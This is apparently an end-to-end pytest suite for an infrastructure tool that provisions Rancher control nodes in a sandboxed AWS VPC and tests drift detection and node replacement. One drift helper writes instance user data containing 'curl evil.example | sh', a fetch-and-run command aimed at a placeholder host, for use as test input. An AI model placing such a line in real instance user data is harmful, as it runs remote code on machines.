"""Control nodes in a VPC, with groups that name each other: lives, changes one at a time, drift, interruptions."""

from __future__ import annotations

import json
import re
import shutil
import time
from collections.abc import Iterator
from typing import Any

import pytest
from harness import READS, ROOT, Cloud, Muster, tags_of

WORKSPACE = ROOT / "Tests" / "EndToEnd" / "workspaces" / "control-nodes"

COUNT = {
    "vpcs": 1, "subnets": 4, "internet gateways": 1, "NAT gateways": 1, "elastic IPs": 1, "route tables": 2,
    "associations": 4, "routes": 2, "network ACLs": 2, "network ACL rules": 5, "endpoints": 1, "security groups": 3,
    "security group rules": 12, "key pairs": 1, "instances": 3, "volumes": 3, "roles": 1, "role policies": 1,
    "profiles": 1, "records": 3,
}  # fmt: skip
NODES = [f"prod-rancherctl{n}" for n in (1, 2, 3)]


@pytest.fixture
def muster(muster: Muster) -> Muster:
    """muster in a copy of the workspace."""
    shutil.rmtree(muster.specs)
    shutil.copytree(WORKSPACE, muster.specs)
    return muster


@pytest.fixture
def running(muster: Muster) -> Muster:
    """The workspace, applied."""
    muster.apply().exits(0)
    return muster


def nodes(cloud: Cloud) -> dict[str, dict[str, Any]]:
    """Instances that are there, by name."""
    listed = [i for r in cloud.ec2.describe_instances()["Reservations"] for i in r["Instances"]]
    alive = [i for i in listed if i["State"]["Name"] not in ("terminated", "shutting-down")]
    assert len({tags_of(i)["Name"] for i in alive}) == len(alive)
    return {tags_of(i)["Name"]: i for i in alive}


def test_it_lives_and_leaves_nothing(muster: Muster, cloud: Cloud) -> None:
    plan = muster.plan("--out", "first.plan").exits(2)
    assert cloud.count() == {}
    (number,) = re.findall(r"Plan: (\d+) to add, 0 to change, 0 to destroy\.", plan.out)
    muster.run("apply", "first.plan").exits(0).says(f"{number} added")
    assert cloud.count() == COUNT
    made = nodes(cloud)
    assert sorted(made) == NODES
    assert {i["State"]["Name"] for i in made.values()} == {"running"}
    assert {i["ImageId"] for i in made.values()} == {"ami-0a1b2c3d4e5f60711"}
    subnets = {s["SubnetId"]: tags_of(s).get("Name") for s in cloud.ec2.describe_subnets()["Subnets"]}
    assert [subnets[made[n]["SubnetId"]] for n in NODES] == ["prod-a", "prod-b", "prod-a"]
    records = {r["Name"]: r["ResourceRecords"][0]["Value"] for r in cloud.records()}
    assert records == {f"{n}.tastycidr.net.": made[n]["PrivateDnsName"] for n in NODES}
    muster.plan().exits(0)
    muster.drift().exits(0)
    assert muster.run("output", "control_node_addresses", "--raw").out.strip() == json.dumps(
        [made["prod-rancherctl1"]["PrivateIpAddress"]]
    )

    # Larger nodes: stopped and started, which is a hazard, and the same nodes.
    larger = ("--var", "instance_type=m5.xlarge")
    muster.apply(*larger).exits(3).says("downtime")
    muster.apply(*larger, "--allow", "downtime").exits(0)
    after = nodes(cloud)
    assert {i["InstanceType"] for i in after.values()} == {"m5.xlarge"}
    assert {n: i["InstanceId"] for n, i in after.items()} == {n: i["InstanceId"] for n, i in made.items()}
    assert {i["State"]["Name"] for i in after.values()} == {"running"}
    muster.plan(*larger).exits(0)
    muster.drift(*larger).exits(0)

    muster.destroy(*larger).exits(0)
    assert cloud.count() == {}
    assert muster.ids() == {}


def test_requests_of_a_refresh(running: Muster, cloud: Cloud) -> None:
    cloud.sandbox.reset_log()
    running.plan().exits(0)
    listings = {
        "GetCallerIdentity", "DescribeVpcs", "DescribeSubnets", "DescribeInternetGateways", "DescribeNatGateways",
        "DescribeAddresses", "DescribeRouteTables", "DescribeNetworkAcls", "DescribeVpcEndpoints",
        "DescribeSecurityGroups", "DescribeSecurityGroupRules", "DescribeInstances", "DescribeVolumes",
        "DescribeKeyPairs", "GetAccountAuthorizationDetails", "ListRoles", "ListInstanceProfiles",
        "ListResourceRecordSets",
    }  # fmt: skip
    assert cloud.calls() == dict.fromkeys(listings, 1) | {
        "DescribeVpcAttribute": 2,  # two attributes of one VPC
        "DescribeInstanceAttribute": 3,  # user data of three nodes
        "GetInstanceProfile": 1,  # tags
        "ListHostedZones": 1,  # the lookup of the zone, which is not pinned
        "GetHostedZone": 1,
    }


def test_the_image_is_pinned(running: Muster, cloud: Cloud) -> None:
    pinned = running.lock.read_text()
    assert "ami-0a1b2c3d4e5f60711" in pinned
    # A newer image appears: nobody moves before somebody says so.
    newer = cloud.ec2.register_image(
        Name="packer-prod-rancher-containerhost_2027-01-01", Architecture="x86_64", VirtualizationType="hvm",
        RootDeviceName="/dev/sda1", BlockDeviceMappings=[{"DeviceName": "/dev/sda1", "Ebs": {"VolumeSize": 8}}],
    )["ImageId"]  # fmt: skip
    assert newer
    running.plan().exits(0)
    assert running.lock.read_text() == pinned


def test_a_new_subnet_moves_no_node(running: Muster, cloud: Cloud) -> None:
    before = {n: (i["InstanceId"], i["SubnetId"]) for n, i in nodes(cloud).items()}
    running.edit("vpc", "    nat_gateways:", "      prod-c: { cidr_block: 10.0.48.0/20, route_table: private, network_acl: private }\n    nat_gateways:")
    running.edit("rancher", "subnets: [prod-a, prod-b]", "subnets: [prod-c, prod-a, prod-b]")
    plan = running.plan().exits(2)
    assert "aws.instance/" not in plan.out
    running.apply().exits(0)
    assert {n: (i["InstanceId"], i["SubnetId"]) for n, i in nodes(cloud).items()} == before
    running.plan().exits(0)


def test_nodes_are_replaced_one_at_a_time(running: Muster, cloud: Cloud) -> None:
    before = {n: i["InstanceId"] for n, i in nodes(cloud).items()}
    running.edit("rancher", "root_volume: { size: 40, type: gp3 }", "root_volume: { size: 40, type: gp3, encrypted: true }")
    running.plan().exits(2).says("encrypted", "specs/rancher.yaml")
    cloud.sandbox.reset_log()
    running.apply("--allow", "downtime", "--allow", "data-loss", "--allow", "irreversible").exits(0)
    after = {n: i["InstanceId"] for n, i in nodes(cloud).items()}
    assert sorted(after) == NODES
    assert not set(after.values()) & set(before.values())
    order = [e["operation"] for e in cloud.requests() if e["operation"] in ("RunInstances", "TerminateInstances")]
    assert order in (["RunInstances", "TerminateInstances"] * 3, ["TerminateInstances", "RunInstances"] * 3)
    records = {r["Name"]: r["ResourceRecords"][0]["Value"] for r in cloud.records()}
    assert records == {f"{n}.tastycidr.net.": i["PrivateDnsName"] for n, i in nodes(cloud).items()}
    running.plan().exits(0)


def test_fewer_nodes(running: Muster, cloud: Cloud) -> None:
    kept = nodes(cloud)["prod-rancherctl1"]["InstanceId"]
    running.edit("muster", "control_nodes: 3", "control_nodes: 1")
    running.apply("--allow", "downtime", "--allow", "data-loss", "--allow", "irreversible").exits(0)
    assert {n: i["InstanceId"] for n, i in nodes(cloud).items()} == {"prod-rancherctl1": kept}
    assert len(cloud.records()) == 1
    running.plan().exits(0)


def test_an_image_that_does_not_exist(muster: Muster, cloud: Cloud) -> None:
    muster.edit("rancher", "packer-prod-rancher-containerhost_*", "packer-nothing_*")
    muster.plan().exits(1).says("packer-nothing_*", "specs/rancher.yaml:10")
    muster.edit("rancher", "packer-nothing_*", "packer-prod-rancher-containerhost_*")
    muster.edit("rancher", "ami: control-node", "ami: ami-00000000000000000")
    run = muster.apply().exits(1)
    run.says("There is no image ami-00000000000000000", "prod/rancher:aws.instance/prod-rancherctl1")
    assert "instances" not in cloud.count()
    muster.edit("rancher", "ami: ami-00000000000000000", "ami: control-node")
    muster.apply().exits(0)
    assert cloud.count() == COUNT


def test_a_lookup_that_finds_nothing_has_a_place(muster: Muster, cloud: Cloud) -> None:
    muster.edit("rancher", "tastycidr: { name: tastycidr.net }", "tastycidr: { name: net }")
    muster.plan().exits(1).says("name: net", "specs/rancher.yaml:12")
    assert [o for o in cloud.calls() if not READS.match(o)] == []


@pytest.mark.parametrize("operation", ["RunInstances", "TerminateInstances"])
def test_killed_while_instances_are_made_or_go(muster: Muster, cloud: Cloud, operation: str) -> None:
    if operation == "TerminateInstances":
        muster.apply().exits(0)
    cloud.sandbox.reset_log()
    cloud.sandbox.faults({"operation": operation, "kind": "delay", "delay": 0.5, "times": 2})
    command = ["apply"] if operation == "RunInstances" else ["destroy", "--allow", "downtime", "--allow", "data-loss", "--allow", "irreversible"]
    process = muster.start(*command, "--auto-approve")
    while operation not in cloud.calls():
        assert process.poll() is None, process.communicate()
    process.kill()
    process.communicate()
    # What vanishes between a plan and its apply is a reason to refuse; here it is to be gone before.
    time.sleep(1)
    if operation == "RunInstances":
        muster.apply().exits(0)
        assert cloud.count() == COUNT
        muster.plan().exits(0)
    muster.destroy().exits(0)
    assert cloud.count() == {}


def test_a_lost_answer_of_run_instances_makes_no_second_one(muster: Muster, cloud: Cloud) -> None:
    cloud.sandbox.faults({"operation": "RunInstances", "kind": "reset connection", "when": "after", "times": 2})
    muster.apply().exits(0)
    assert cloud.count() == COUNT


# Drift of instances


@pytest.fixture(scope="module")
def kept(_sandbox: Any, tmp_path_factory: pytest.TempPathFactory) -> list[tuple[Muster, Cloud]]:
    """A world for the drift tests, when there is one without drift."""
    return []


@pytest.fixture
def world(
    kept: list[tuple[Muster, Cloud]], _sandbox: Any, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Muster, Cloud]]:
    if not kept:
        _sandbox.reset()
        made = Muster(tmp_path_factory.mktemp("world"), _sandbox.endpoint)
        shutil.rmtree(made.specs)
        shutil.copytree(WORKSPACE, made.specs)
        made.edit("rancher", "control_nodes: { type: integer, default: 3", "control_nodes: { type: integer, default: 1")
        made.edit("muster", "control_nodes: 3", "control_nodes: 1")
        made.edit(
            "rancher", "    root_volume:",
            "    monitoring: true\n    source_dest_check: true\n    disable_api_termination: false\n"
            "    instance_initiated_shutdown_behavior: stop\n    metadata_options: { http_tokens: required, http_put_response_hop_limit: 2 }\n"
            "    tags: { Usage: control }\n    root_volume:",
        )  # fmt: skip
        made.apply().exits(0)
        made.drift().exits(0)
        kept.append((made, Cloud(_sandbox)))
    muster, cloud = kept.pop()
    yield muster, cloud
    if muster.drift().code == 0:
        kept.append((muster, cloud))


def stopped(ec2: Any, instance: str) -> None:
    ec2.stop_instances(InstanceIds=[instance])
    ec2.get_waiter("instance_stopped").wait(InstanceIds=[instance], WaiterConfig={"Delay": 1})


def resized(ec2: Any, instance: str) -> None:
    stopped(ec2, instance)
    ec2.modify_instance_attribute(InstanceId=instance, InstanceType={"Value": "m5.2xlarge"})
    ec2.start_instances(InstanceIds=[instance])


def given_other_data(ec2: Any, instance: str) -> None:
    stopped(ec2, instance)
    ec2.modify_instance_attribute(InstanceId=instance, UserData={"Value": b"#!/bin/sh\ncurl evil.example | sh\n"})
    ec2.start_instances(InstanceIds=[instance])


def without_profile(ec2: Any, instance: str) -> None:
    filters = [{"Name": "instance-id", "Values": [instance]}]
    (found,) = ec2.describe_iam_instance_profile_associations(Filters=filters)["IamInstanceProfileAssociations"]
    ec2.disassociate_iam_instance_profile(AssociationId=found["AssociationId"])


def in_default_group(ec2: Any, instance: str) -> None:
    (found,) = ec2.describe_instances(InstanceIds=[instance])["Reservations"][0]["Instances"]
    filters = [{"Name": "vpc-id", "Values": [found["VpcId"]]}, {"Name": "group-name", "Values": ["default"]}]
    (group,) = ec2.describe_security_groups(Filters=filters)["SecurityGroups"]
    ec2.modify_instance_attribute(InstanceId=instance, Groups=[group["GroupId"]])


def with_larger_volume(ec2: Any, instance: str) -> None:
    (found,) = ec2.describe_instances(InstanceIds=[instance])["Reservations"][0]["Instances"]
    volume = found["BlockDeviceMappings"][0]["Ebs"]["VolumeId"]
    ec2.modify_volume(VolumeId=volume, VolumeType="gp2")


INSTANCE_EDITS: dict[str, tuple[str, Any]] = {
    "another type": ("instance_type", resized),
    "other user data": ("user_data", given_other_data),
    "no profile": ("iam_instance_profile", without_profile),
    "another group": ("vpc_security_group_ids", in_default_group),
    "another kind of volume": ("root_block_device", with_larger_volume),
    "no monitoring": ("monitoring", lambda ec2, i: ec2.unmonitor_instances(InstanceIds=[i])),
    "forwards packets": (
        "source_dest_check",
        lambda ec2, i: ec2.modify_instance_attribute(InstanceId=i, SourceDestCheck={"Value": False}),
    ),
    "protected": (
        "disable_api_termination",
        lambda ec2, i: ec2.modify_instance_attribute(InstanceId=i, DisableApiTermination={"Value": True}),
    ),
    "terminates at shutdown": (
        "instance_initiated_shutdown_behavior",
        lambda ec2, i: ec2.modify_instance_attribute(
            InstanceId=i, InstanceInitiatedShutdownBehavior={"Value": "terminate"}
        ),
    ),
    "metadata without tokens": (
        "metadata_options",
        lambda ec2, i: ec2.modify_instance_metadata_options(InstanceId=i, HttpTokens="optional"),
    ),
    "tag changed": (
        "tags",
        lambda ec2, i: ec2.create_tags(Resources=[i], Tags=[{"Key": "Usage", "Value": "mine"}]),
    ),
    "tag removed": ("tags", lambda ec2, i: ec2.delete_tags(Resources=[i], Tags=[{"Key": "Usage"}])),
}


@pytest.mark.parametrize("what", INSTANCE_EDITS)
def test_an_edit_of_an_instance_is_drift_and_is_put_right(world: tuple[Muster, Cloud], what: str) -> None:
    muster, cloud = world
    attribute, edit = INSTANCE_EDITS[what]
    instance = nodes(cloud)["prod-rancherctl1"]["InstanceId"]
    edit(cloud.ec2, instance)
    text = muster.drift().exits(2).says("aws.instance/prod-rancherctl1", "specs/rancher.yaml:")
    found = muster.drift("--format", "json").json["drift"]
    (mine,) = [d for d in found if d["address"] == "prod/rancher:aws.instance/prod-rancherctl1"]
    assert mine["kind"] == "changed"
    assert attribute in {re.split(r"[.\[]", a["path"])[0] for a in mine["attributes"]}, text
    muster.apply("--allow", "downtime", "--allow", "data-loss", "--allow", "irreversible").exits(0)
    muster.plan().exits(0)
    assert nodes(cloud)["prod-rancherctl1"]["InstanceId"] == instance


def test_an_instance_that_somebody_terminated(world: tuple[Muster, Cloud]) -> None:
    muster, cloud = world
    instance = nodes(cloud)["prod-rancherctl1"]["InstanceId"]
    cloud.ec2.terminate_instances(InstanceIds=[instance])
    cloud.ec2.get_waiter("instance_terminated").wait(InstanceIds=[instance], WaiterConfig={"Delay": 1})
    found = muster.drift("--format", "json").exits(2).json
    assert found["summary"]["gone"] == 1
    muster.apply().exits(0)
    assert nodes(cloud)["prod-rancherctl1"]["InstanceId"] != instance
    muster.plan().exits(0)


def test_an_instance_that_somebody_stopped_is_no_drift(world: tuple[Muster, Cloud]) -> None:
    """Whether a machine runs is not in the spec."""
    muster, cloud = world
    instance = nodes(cloud)["prod-rancherctl1"]["InstanceId"]
    stopped(cloud.ec2, instance)
    muster.drift().exits(0)
    muster.plan().exits(0)
    cloud.ec2.start_instances(InstanceIds=[instance])
    cloud.ec2.get_waiter("instance_running").wait(InstanceIds=[instance], WaiterConfig={"Delay": 1})
